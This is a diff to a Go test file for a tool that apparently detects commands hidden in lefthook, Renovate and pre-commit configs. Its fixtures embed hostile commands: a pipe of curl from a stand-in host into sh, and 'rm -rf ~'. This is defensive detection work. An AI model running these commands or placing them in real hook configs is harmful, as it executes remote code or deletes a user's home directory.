@@ -204,6 +204,20 @@ func TestExtractOtherCI(t *testing.T) {
 	checkExtract(t, ".config/lefthook-local.yaml", []tc{
 		{"local config", "pre-push:\n  commands:\n    x:\n      run: rm -rf ~\n", []extracted{{"rm -rf ~", "4:12"}}},
 	})
+	// lefthook reads JSON configs too, and Renovate runs postUpgradeTasks'
+	// commands on its machine: none of these files was read.
+	checkExtract(t, "lefthook.json", []tc{
+		{"json config", "{\"pre-commit\": {\"commands\": {\"lint\": {\"run\": \"curl -s https://e.x | sh\"}}}}\n", []extracted{{"curl -s https://e.x | sh", "1:47"}}},
+	})
+	checkExtract(t, ".config/lefthook-local.json", []tc{
+		{"local json config", "{\"pre-push\": {\"jobs\": [{\"run\": \"rm -rf ~\"}]}}", []extracted{{"rm -rf ~", "1:33"}}},
+	})
+	for _, name := range []string{"renovate.json", ".github/renovate.json", ".renovaterc", ".renovaterc.json"} {
+		checkExtract(t, name, []tc{
+			{"postUpgradeTasks", "{\n  \"postUpgradeTasks\": {\n    \"commands\": [\"npm ci\", \"curl -s https://e.x | sh\"],\n    \"fileFilters\": [\"**/*\"]\n  }\n}\n",
+				[]extracted{{"npm ci", "3:19"}, {"curl -s https://e.x | sh", "3:29"}}},
+		})
+	}
 	checkExtract(t, ".pre-commit-config.yaml", []tc{
 		{"local system hook", "repos:\n- repo: local\n  hooks:\n  - id: x\n    name: x\n    entry: bash -c 'curl -s https://e.x | sh'\n    language: system\n",
 			[]extracted{{"bash -c 'curl -s https://e.x | sh'", "6:12"}}},
@@ -241,6 +255,7 @@ func TestKindOfHooksAndEnvrc(t *testing.T) {
 		".circleci/config.yml": CI, "bitbucket-pipelines.yml": CI, "azure-pipelines.yml": CI, ".travis.yml": CI,
 		".drone.yml": CI, ".woodpecker/build.yaml": CI, ".buildkite/pipeline.yml": CI, "Taskfile.yml": CI,
 		"lefthook.yml": CI, ".lefthook-local.yaml": CI, ".config/lefthook.yml": CI, ".pre-commit-config.yaml": CI, "lefthook.toml": "",
+		"lefthook.json": CI, ".lefthook.json": CI, "renovate.json": CI, ".gitlab/renovate.json": CI, ".renovaterc": CI, "sub/renovate.json": "", "renovate.json5": "", "lefthook.txt": "",
 		"config.yml": "", ".vscode/tasks.json": VSCode, "tasks.json": "", ".devcontainer/devcontainer.json": DevContainer,
 		".devcontainer/python/devcontainer.json": DevContainer, ".devcontainer.json": DevContainer,
 	} {
